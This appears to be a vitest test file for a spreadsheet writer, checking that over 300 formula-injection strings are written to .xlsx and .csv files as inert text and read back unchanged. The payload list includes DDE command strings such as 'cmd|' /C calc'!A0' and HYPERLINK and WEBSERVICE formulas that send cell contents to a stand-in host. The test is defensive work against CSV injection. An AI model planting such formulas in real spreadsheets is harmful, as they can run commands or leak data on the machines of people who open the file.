// Goal I5: a cell that somebody else wrote runs nothing in the spreadsheet that opens our file, and comes back as it was.
import { PassThrough } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { expect, test } from 'vitest'
import { openArchive } from '#kernel/sheets/archive.ts'
import { SHEET_LIMITS } from '#kernel/sheets/read.ts'
import { type Rows, writeCsv, writeXlsx } from '#kernel/sheets/write.ts'
import { rowsOf } from '#test/archives.ts'

const written = async (write: (to: PassThrough) => Promise<void>): Promise<Buffer> => {
  const to = new PassThrough()
  const [bytes] = await Promise.all([buffer(to), write(to)])
  return bytes
}
const xlsx = (rows: Rows) => written((to) => writeXlsx(to, [{ name: '名册', rows }]))
const csv = (rows: Rows, encoding: 'utf8-bom' | 'gb18030') => written((to) => writeCsv(to, rows, encoding))
const cellsOf = async (bytes: Buffer, name: string) => (await rowsOf(bytes, name)).map((row) => row.cells)

/** Beginnings of a formula, some behind blanks that a spreadsheet skips, by what may follow. */
const STARTS = [
  ...['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'=", "''@", '"='],
  ...[' =', '\u00a0=', '\u3000＝', "' @", '\ufeff=', '\v='],
]
const RESTS = [
  'HYPERLINK("http://x.invalid?"&A1,"点这里")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://x.invalid")',
  '1+1',
  ',"=1+1',
  ';=1+1',
  '\r\n=1+1',
  '"',
  "'",
  '\t=1',
  '861380000',
  '_x0041_',
  'SUM(1)*cmd|x!A1 ',
  '😀𠮷',
  '',
]
const FORMULAS = STARTS.flatMap((start) => RESTS.map((rest) => start + rest))
const rows = [['栏目', '备注'], ...FORMULAS.map((cell) => [cell, '一'])]

/** What a spreadsheet would run: cells as any reader of .csv splits them. */
function running(text: string): string[] {
  const cells = text.replace(/^\ufeff/, '').match(/"(?:[^"]|"")*"|[^,\r\n]+/g) ?? []
  return cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/.test(cell))
}

test('three hundred beginnings of formulas: a workbook holds words alone, and the same ones', async () => {
  const bytes = await xlsx(rows)
  const archive = await openArchive(bytes, 'x', SHEET_LIMITS)
  const sheet = (await archive.parts.find(({ name }) => name.endsWith('sheet1.xml'))!.bytes(1e7)).toString()
  expect(sheet.match(/<f[ >/]/g)).toBeNull()
  expect(sheet.match(/<c /g)!.length).toBe(sheet.match(/t="inlineStr"/g)!.length)
  expect(FORMULAS.length).toBe(300)
  expect(await cellsOf(bytes, '名册.xlsx')).toEqual(rows)
})

test.each(['utf8-bom', 'gb18030'] as const)('a .csv in %s runs nothing and comes back the same', async (encoding) => {
  const bytes = await csv(rows, encoding)
  const text = new TextDecoder(encoding === 'gb18030' ? 'gb18030' : 'utf-8', { ignoreBOM: true }).decode(bytes)
  expect(running(text)).toEqual([])
  expect(await cellsOf(bytes, '名册.csv')).toEqual(rows)
})

test('bite: without the guard most of them would run', () => {
  const bare = FORMULAS.map((cell) => `"${cell.replaceAll('"', '""')}",一`).join('\r\n')
  expect(running(bare).length).toBeGreaterThan(200)
})
